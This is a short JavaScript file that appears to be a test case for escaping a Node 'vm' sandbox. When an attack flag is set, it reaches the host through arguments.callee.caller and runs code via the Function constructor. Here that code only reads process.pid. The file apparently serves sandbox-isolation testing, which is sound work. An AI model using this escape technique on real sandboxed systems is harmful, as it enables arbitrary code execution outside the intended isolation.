// Asks the arguments object for the calling function.
// Class: host objects
// Win: the id holds the process id, got through the calling function.
// Control: vm
function readCaller(args) {
  return args.callee.caller;
}
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  options.responseData[0].id = 'ESCAPED:' + readCaller(arguments).constructor('return process.pid')();
  return options.responseData;
}
